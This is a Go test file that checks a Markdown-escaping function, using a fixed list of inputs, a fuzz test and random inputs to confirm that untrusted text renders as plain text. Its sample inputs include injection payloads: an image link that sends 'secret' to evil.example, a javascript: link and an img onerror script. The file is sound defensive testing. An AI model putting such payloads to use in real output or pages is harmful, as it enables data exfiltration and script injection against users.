package summarize_test

import (
	"bytes"
	"html"
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"

	"pulltab/internal/summarize"
)

// rendered returns a line of GitHub Flavored Markdown as HTML.
func rendered(t *testing.T, md string) string {
	t.Helper()
	var b bytes.Buffer
	if err := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote)).Convert([]byte(md), &b); err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(b.String())
}

var tag = regexp.MustCompile(`</?(p|code)>`)

// checkPlain checks that the escaped s renders as s, in one paragraph with no
// element other than code.
func checkPlain(t *testing.T, s string) {
	t.Helper()
	got := rendered(t, summarize.EscapeMarkdown(s))
	text := html.UnescapeString(tag.ReplaceAllString(got, ""))
	if strings.Join(strings.Fields(text), " ") != strings.Join(strings.Fields(s), " ") || strings.Contains(tag.ReplaceAllString(got, ""), "<") {
		t.Errorf("%q as %q is rendered as %q", s, summarize.EscapeMarkdown(s), got)
	}
}

func TestEscapedMarkdownRendersAsPlainText(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		"![x](https://evil.example/?q=secret)", "[click](javascript:alert(1))", "<img src=x onerror=alert(1)>", "<https://evil.example>",
		"https://evil.example/a_b_c?d=e*f*", "see www.evil.example.", "mail me@evil.example now", "mailto:me@evil.example", "ftp://evil.example",
		"# heading", "1. list", "1) list", "- list", "+ list", "> quote", "---", "===", "| a | b |", "```", "~~gone~~", "**bold** _it_ `code`", "&amp; &lt;",
		`\[x](y)`, "[^1]: note", "[^1]", "[x]: https://evil.example", "$x$", "a\\", "10 000 > 3", "a | b", "* star", "[ ] task", "xhttps://evil.example",
	} {
		checkPlain(t, s)
	}
}

func FuzzPlain(f *testing.F) {
	f.Add("![x](https://evil.example)")
	f.Add("`www.a`b.c ` https://x`y")
	f.Fuzz(func(t *testing.T, s string) {
		if s = strings.Join(strings.Fields(strings.Map(func(r rune) rune {
			switch {
			case unicode.IsControl(r):
				return ' ' // as EscapeMarkdown does
			case r == utf8.RuneError:
				return -1
			}
			return r
		}, strings.ToValidUTF8(s, ""))), " "); s != "" {
			checkPlain(t, s)
		}
	})
}

func TestEscapedRandomMarkdownRendersAsPlainText(t *testing.T) {
	t.Parallel()
	parts := []string{"![", "](", ")", "https://e.example/", "www.e.example", "me@e.example", "`", "``", "<", ">", "a", " ", " ", "*", "_", "\\", "#", "-", "1.", "&lt;", "|", "~~", "[", "]", ":", "!", "(", ".", "é", "$", "^", "=", "mailto:", "http://", "@", "//"}
	r := rand.New(rand.NewPCG(8, 5))
	for range fewerIfShort(5_000, 1_000) {
		var b strings.Builder
		for range 1 + r.IntN(10) {
			b.WriteString(parts[r.IntN(len(parts))])
		}
		if s := strings.Join(strings.Fields(b.String()), " "); s != "" {
			checkPlain(t, s)
		}
		if t.Failed() {
			return
		}
	}
}
